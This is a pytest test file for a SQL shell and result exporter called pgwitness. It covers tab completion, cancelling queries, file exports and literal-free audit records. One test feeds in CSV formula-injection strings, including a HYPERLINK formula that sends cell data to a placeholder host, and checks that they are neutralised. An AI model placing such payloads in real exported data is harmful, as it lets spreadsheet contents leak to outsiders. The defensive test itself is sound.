"""The shell of `pgwitness sql` at a real terminal, its completion by values, and answers into files."""

from __future__ import annotations

import csv
import json
import stat
from collections.abc import Iterator
from pathlib import Path

import duckdb
import pytest
from click.testing import CliRunner

from pgwitness.cli import main
from pgwitness.cli.evidence import Recorder
from pgwitness.cli.sql_completion import Known, proposals
from pgwitness.core.privacy import write_key
from sinks.lake.writer import Lake
from sinks.sql.shape import shape
from tests.questions.terminal import Terminal, terminal
from tests.sinks.material import ORDINARY, change, other

KNOWN = Known(
    {"events": ["event_id", "principal", "operation"], "logins": ["opened", "outcome"]},
    ["touched", "timeline"],
    {"principal": ["maria", "o'neil", "bad\nname"], "relation": ["public.orders"]},
)


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder with a configuration, no broker, and a lake in which maria did a few things."""
    path = tmp_path_factory.mktemp("home")
    write_key(path / "privacy.key", b"k" * 32)
    (path / "pgwitness.toml").write_text('[kafka]\nbootstrap = "127.0.0.1:1"\n')
    writer = Lake(path / "lake").writer("events", 0)
    writer.resume()
    events = [change(number, principal="maria") for number in range(1, 6)]
    events.append(other(6, principal="o'neil", detail={"a": 1}))
    writer.append(0, events, [ORDINARY] * len(events))
    writer.commit()
    return path


@pytest.fixture
def shell(home: Path, tmp_path: Path) -> Iterator[Terminal]:
    """The shell, at its first prompt."""
    with terminal(["sql", "--config", str(home / "pgwitness.toml")], tmp_path) as made:
        made.until("evidence>")
        yield made


def completed(text: str) -> list[str]:
    """List what can come next."""
    return [proposal.text for proposal in proposals(KNOWN, text)]


@pytest.mark.parametrize(
    ("text", "wanted"),
    [
        ("SELECT * FROM ", ["events", "logins", "touched(", "timeline("]),
        ("SELECT * FROM lo", ["logins"]),
        ("select out", []),
        ("SELECT * FROM logins WHERE out", ["outcome"]),
        ("SELECT prin", ["principal"]),
        ("FROM timeline('", ["maria'", "o''neil'"]),
        ("FROM events WHERE principal = 'ma", ["maria'"]),
        ("FROM touched('pub", ["public.orders'"]),
        ("FROM events WHERE statement = 'ma", []),
        ("\\t", ["\\timing"]),
        ("\\d ev", ["events"]),
    ],
)
def test_what_comes_next(text: str, wanted: list[str]) -> None:
    """By what stands before; a name that would break the line is not proposed, a quote is doubled."""
    assert completed(text) == wanted


def test_a_person_asks_over_several_lines_and_completes_a_principal(shell: Terminal, tmp_path: Path) -> None:
    """Tab completes a principal, Enter goes on until the semicolon; the history is its user's alone."""
    shell.type("SELECT 'n=' || count(*) AS n\r")
    shell.until("...>")
    shell.type("FROM timeline('mar\t")
    shell.until("ia'")
    shell.type(");\r")
    shell.until("n=5")
    shell.type("\\q\r")
    assert shell.code() == 0
    history = tmp_path / ".pgwitness_history"
    assert "timeline('maria')" in history.read_text()
    assert stat.S_IMODE(history.stat().st_mode) == 0o600


def test_ctrl_c_cancels_the_query_and_not_the_shell(shell: Terminal) -> None:
    """A query without end is given up, a half-typed line too, and the next one is answered."""
    shell.type("SELECT count(*) FROM range(100000000000) a, range(1000);\r")
    shell.until("the query was cancelled", again="\x03")
    shell.until("evidence>")
    shell.type("SELECT nonsense\x03")
    shell.type("SELECT 'the ' || (40 + 2) AS answer;\r")
    shell.until("the 42")
    shell.until("evidence>")
    shell.type("\x04")
    assert shell.code() == 0


def test_commands_of_the_shell(shell: Terminal, tmp_path: Path) -> None:
    """Views, columns, rows one below the other, timing, a file, and what is refused."""
    shell.type("\\d\r")
    shell.until("accesses")
    shell.until("timeline")
    shell.type("\\d logins\r")
    shell.until("opened")
    shell.type("\\x\r")
    shell.until("rows one below the other: on")
    shell.type("SELECT 'fir' || 'st' AS a, 'second' AS b;\r")
    shell.until("a  first")
    shell.type("\\timing\r")
    shell.until("timing: on")
    shell.type("SELECT 1;\r")
    shell.until(" ms")
    shell.type(f"\\o {tmp_path / 'out.csv'}\r")
    shell.type("SELECT principal FROM events;\r")
    shell.until("6 rows into")
    shell.type("\\o\r")
    shell.type("DROP VIEW events;\r")
    shell.until("DROP is not for evidence")
    shell.type("\\nonsense\r")
    shell.until("unknown")
    assert (tmp_path / "out.csv").read_text().splitlines()[0] == "principal"


@pytest.mark.parametrize("ending", ["csv", "json", "parquet"])
def test_an_answer_goes_into_a_file(home: Path, tmp_path: Path, ending: str) -> None:
    """All rows with their types, readable by its user alone."""
    path = tmp_path / f"answer.{ending}"
    query = "SELECT xid, principal, occurred_at, relations, xid AS xid FROM events ORDER BY event_id"
    words = ["sql", query, "--output", str(path), "--config", str(home / "pgwitness.toml")]
    result = CliRunner().invoke(main, words)
    assert result.exit_code == 0, result.output
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    if ending == "csv":
        rows = list(csv.reader(path.read_text().splitlines()))
        assert rows[0] == ["xid", "principal", "occurred_at", "relations", "xid_5"]
        assert rows[1][:2] == ["1001", "maria"]
        assert rows[1][3] == '["public.orders"]'
        assert len(rows) == 7
    elif ending == "json":
        listed = json.loads(path.read_text())
        assert [row["principal"] for row in listed] == ["maria"] * 5 + ["o'neil"]
    else:
        found = duckdb.read_parquet(str(path))
        assert [str(kind) for kind in found.types[:4]] == ["BIGINT", "VARCHAR", "TIMESTAMP WITH TIME ZONE", "VARCHAR[]"]
        assert len(found.fetchall()) == 6


@pytest.mark.parametrize(
    ("name", "reason"), [("answer.txt", ".parquet"), ("lake/answer.csv", "lies in the lake"), ("no/a.csv", "no folder")]
)
def test_no_answer_goes_where_it_may_not(home: Path, name: str, reason: str) -> None:
    """Another kind of file, the lake itself, a folder that is not there."""
    words = ["sql", "SELECT 1", "--output", str(home / name), "--config", str(home / "pgwitness.toml")]
    result = CliRunner().invoke(main, words)
    assert (result.exit_code, reason in result.output) == (1, True)
    assert not (home / name).exists()


def test_a_query_that_fails_leaves_no_file(home: Path, tmp_path: Path) -> None:
    """Neither the file nor a part of it."""
    words = ["sql", "SELECT error('no')", "--output", str(tmp_path / "a.csv"), "--config", str(home / "pgwitness.toml")]
    assert CliRunner().invoke(main, words).exit_code == 1
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("ending", ["csv", "json"])
def test_times_without_end_and_before_christ_go_into_a_file(home: Path, tmp_path: Path, ending: str) -> None:
    """What Python has no date for is text; infinity stays infinity."""
    path = tmp_path / f"answer.{ending}"
    query = (
        "SELECT TIMESTAMPTZ 'infinity' AS a, TIMESTAMPTZ '-infinity' AS b, DATE '0044-03-15 (BC)' AS c,"
        " TIMESTAMPTZ '20000-01-01 00:00:00Z' AS d, TIMESTAMP_NS '2020-01-01 00:00:00.123456789' AS e"
    )
    result = CliRunner().invoke(main, ["sql", query, "--output", str(path), "--config", str(home / "pgwitness.toml")])
    assert result.exit_code == 0, result.output
    row = json.loads(path.read_text())[0] if ending == "json" else next(csv.DictReader(path.read_text().splitlines()))
    assert [row[name] for name in "abcd"] == ["infinity", "-infinity", "0044-03-15 (BC)", "20000-01-01 00:00:00+00"]


def test_a_spreadsheet_runs_no_name_from_the_evidence(home: Path, tmp_path: Path) -> None:
    """A text that would be a formula gets an apostrophe in CSV; numbers, and what looks like one, stay as they are."""
    path = tmp_path / "answer.csv"
    query = """
        SELECT '=HYPERLINK("http://x/?"&A1)' AS "=a", '@x' AS b, '-2+3|x' AS c, '-5' AS d, -5 AS e, '+49 30 1' AS f
    """
    result = CliRunner().invoke(main, ["sql", query, "--output", str(path), "--config", str(home / "pgwitness.toml")])
    assert result.exit_code == 0, result.output
    names, row = csv.reader(path.read_text().splitlines())
    assert names[0] == "'=a"
    assert row == ['\'=HYPERLINK("http://x/?"&A1)', "'@x", "'-2+3|x", "-5", "-5", "+49 30 1"]


def test_columns_that_share_a_name_are_all_there(home: Path) -> None:
    """Even where another column has the name that one would get for its place."""
    words = ["sql", "SELECT 1 AS a_3, 2 AS a, 3 AS a", "--json", "--config", str(home / "pgwitness.toml")]
    result = CliRunner().invoke(main, words)
    assert json.loads(result.stdout) == [{"a_3": 1, "a": 2, "a_3_3": 3}]


@pytest.mark.parametrize(("words", "sent"), [(["sql", "SELECT '\udcff'"], b""), (["sql"], b"SELECT \xff")])
def test_a_query_that_is_no_text_is_refused_in_a_sentence(home: Path, words: list[str], sent: bytes) -> None:
    """Bytes that are no UTF-8, in the argument or on stdin."""
    result = CliRunner().invoke(main, [*words, "--config", str(home / "pgwitness.toml")], input=sent)
    assert result.exit_code == 1
    assert "not text in UTF-8" in result.output


class _Kept(Recorder):
    """A recorder that keeps what it would send."""

    def __init__(self) -> None:
        self.sent: list[dict[str, object]] = []

    def _record(self, operation: str, source: str, asked: dict[str, object]) -> None:
        self.sent.append(asked)


def test_what_was_asked_in_duckdbs_own_sql_is_written_down_without_literals() -> None:
    """PostgreSQL's parser does not know it, and a hash alone would not tell what somebody looked for."""
    kept = _Kept()
    with kept.asking("FROM touched('public.cards', 7) SELECT * EXCLUDE (detail) -- for eve"):
        pass
    assert kept.sent[0]["statement"] == "FROM touched ( $1 , $2 ) SELECT * EXCLUDE ( detail )"
    assert kept.sent[0]["outcome"] == "success"


@pytest.mark.parametrize("end", [KeyboardInterrupt, OverflowError, SystemExit])
@pytest.mark.parametrize("what", ["query", "report", "export"])
def test_what_was_asked_is_written_down_however_it_ends(what: str, end: type[BaseException]) -> None:
    """A Ctrl-C at the right moment leaves no question without a trace, and no first file of three."""
    kept = _Kept()
    subject: dict[str, str | None] = {"principal": "eve"}
    begun = {"query": kept.asking("SELECT 1"), "report": kept.reporting(subject), "export": kept.exporting(subject)}
    with pytest.raises(end), begun[what]:
        raise end
    assert [asked["outcome"] for asked in kept.sent] == ["failure"]


@pytest.mark.parametrize(
    ("query", "shown"),
    [
        ("FROM events WHERE x = 'ä' AND \"a--b\" = $$it's$$ /* 'secret' */ AND n IN (1, 2e5)",
         'FROM events WHERE x = $1 AND "a--b" = $2 AND n IN ( $3 , $4 )'),
        ("FROM events WHERE x = E'a\\'secret' -- secret", "FROM events WHERE x = $1"),
        ("FROM events WHERE 'secret", None),
        ("secret words that are no SQL", None),
        ("FROM \ud800", None),
    ],
)  # fmt: skip
def test_the_shape_of_a_query_has_no_literal(query: str, shown: str | None) -> None:
    """As DuckDB reads it; where it cannot, there is none."""
    assert shape(query) == shown
